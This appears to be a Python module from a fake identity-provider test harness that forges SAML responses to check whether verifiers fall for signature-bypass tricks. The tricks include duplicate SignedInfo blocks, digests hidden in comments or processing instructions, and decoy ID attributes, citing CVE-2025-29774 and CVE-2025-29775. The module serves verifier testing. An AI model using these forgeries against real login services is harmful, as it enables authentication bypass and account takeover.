"""Attacks on what verifiers read inside a Signature: doubled parts, comments, stowaways."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable

from fake_idp.faults.forge import forgery_of
from fake_idp.faults.registry import on, register
from fake_idp.faults.signing import (
    any_signature,
    change_signatures,
    drop_outer_signature,
    exclusive,
    own_signature,
)
from fake_idp.faults.wrapping import hide_in_extensions
from fake_idp.saml.nodes import Comment, Element, Node, ProcessingInstruction, Text
from fake_idp.saml.pipeline import FaultContext
from fake_idp.saml.signature import remove_signature

DSIG = "XML Signature 1.1, schema"


def _forge_in_place(response: Element, context: FaultContext) -> tuple[Element, Element, str]:
    """Rewrite the signed element; returns it, its old Signature and the digest that would fit now."""
    target = drop_outer_signature(response)
    signature = own_signature(target)
    assert signature is not None  # noqa: S101 - drop_outer_signature returns a signed element
    forgery_of(response, context).rewrite(target)
    return target, signature, _digest_of(target, response, context)


def _digest_of(target: Element, response: Element, context: FaultContext) -> str:
    """The DigestValue that fits the element as it is now."""
    bare = response.copy()
    copied = next(element for element in bare.walk() if element.get("ID") == target.get("ID"))
    remove_signature(copied)
    algorithm = context.signing.digest_algorithm.lower()
    digest = hashlib.new(algorithm, exclusive(copied, bare), usedforsecurity=False).digest()
    return base64.b64encode(digest).decode()


def _second_signed_info(response: Element, context: FaultContext, *, first: bool) -> None:
    _target, signature, digest = _forge_in_place(response, context)
    genuine = signature.one("ds:SignedInfo")
    forged = genuine.copy()
    forged.one("ds:DigestValue").text = digest
    (signature.insert_before if first else signature.insert_after)(genuine, forged)


@on("signed", "sig-signedinfo-duplicate", source=f"{DSIG}; CVE-2025-29774", applies=any_signature)
def signedinfo_duplicate_first(response: Element, context: FaultContext) -> None:
    """A second SignedInfo with the digest of the forged content stands before the signed one."""
    _second_signed_info(response, context, first=True)


@on("signed", "sig-signedinfo-duplicate", source=f"{DSIG}; CVE-2025-29774", applies=any_signature)
def signedinfo_duplicate_last(response: Element, context: FaultContext) -> None:
    """A second SignedInfo with the digest of the forged content stands behind the signed one."""
    _second_signed_info(response, context, first=False)


def _second_for_the_forged(response: Element, context: FaultContext, *, first: bool) -> None:
    forged, _genuine = hide_in_extensions(response, context, move_signature=True)
    signature = forged.one("ds:Signature")
    signed = signature.one("ds:SignedInfo")
    second = signed.copy()
    second.one("ds:Reference").set("URI", f"#{forged.get('ID')}")
    second.one("ds:DigestValue").text = _digest_of(forged, response, context)
    (signature.insert_before if first else signature.insert_after)(signed, second)


@on("signed", "sig-signedinfo-duplicate", source=f"{DSIG}; CVE-2025-29774", applies=any_signature)
def signedinfo_second_for_forged_first(response: Element, context: FaultContext) -> None:
    """The signed element hides in Extensions; in its Signature, a SignedInfo for the forged one stands first."""
    _second_for_the_forged(response, context, first=True)


@on("signed", "sig-signedinfo-duplicate", source=f"{DSIG}; CVE-2025-29774", applies=any_signature)
def signedinfo_second_for_forged_last(response: Element, context: FaultContext) -> None:
    """The signed element hides in Extensions; in its Signature, a SignedInfo for the forged one stands last."""
    _second_for_the_forged(response, context, first=False)


def _in_digest(name: str, title: str, nodes: Callable[[str, str], list[Node]], source: str) -> None:
    def apply(response: Element, context: FaultContext) -> None:
        _target, signature, digest = _forge_in_place(response, context)
        value = signature.one("ds:DigestValue")
        value.children = nodes(digest, value.text)

    register(name, title, "signed", apply, "sig-digestvalue-comment", source=source, applies=any_signature)


_in_digest(
    "digest-value-comment",
    "DigestValue holds the digest of the forged content in a comment before the signed one.",
    lambda forged, signed: [Comment(forged), Text(signed)],
    f"{DSIG}; CVE-2025-29775",
)
_in_digest(
    "digest-value-comment-split",
    "DigestValue is the digest of the forged content, then a comment, then the signed one.",
    lambda forged, signed: [Text(forged), Comment(""), Text(signed)],
    f"{DSIG}; CVE-2025-29775",
)
_in_digest(
    "digest-value-pi",
    "DigestValue holds the digest of the forged content in a processing instruction before the signed one.",
    lambda forged, signed: [ProcessingInstruction("x", forged), Text(signed)],
    f"{DSIG}; CVE-2025-29775",
)


@on("signed", "sig-digestvalue-comment", source=DSIG, applies=any_signature)
def signature_value_comment(response: Element, context: FaultContext) -> None:
    """Every SignatureValue is split by a comment; nothing else is wrong."""

    def change(_element: Element, signature: Element) -> None:
        value = signature.one("ds:SignatureValue")
        half = len(value.text) // 2
        value.children = [Text(value.text[:half]), Comment("x"), Text(value.text[half:])]

    change_signatures(response, context, change)


@on("signed", "sig-object-child", source="Errata E91", applies=any_signature)
def signature_object_harmless(response: Element, context: FaultContext) -> None:
    """Every Signature has a ds:Object with a word in it; nothing else is wrong."""
    change_signatures(
        response, context, lambda _, signature: signature.append(Element("ds:Object", {}, ["harmless"]))
    )


def _decoy(name: str, title: str, attribute: str, declared: dict[str, str]) -> None:
    def apply(response: Element, context: FaultContext) -> None:
        forged, genuine = hide_in_extensions(response, context, move_signature=True)
        for n, value in declared.items():
            forged.set(n, value)
        forged.set(attribute, genuine.get("ID"))

    register(
        f"id-decoy-{name}",
        f"The forged element, which carries the Signature, has the signed ID as {title}.",
        "signed",
        apply,
        "sig-id-attribute-variants",
        source="SAML Core 5.4, lines 2915-2917; PortSwigger, SAML signature bypass research of December 2025",
        applies=any_signature,
    )


_decoy("upper-first-lower", "Id", "Id", {})
_decoy("lower", "id", "id", {})
_decoy("xml-id", "xml:id", "xml:id", {})
_decoy("foreign-namespace", "ID of a foreign namespace", "x:ID", {"xmlns:x": "urn:okta-harness:foreign"})
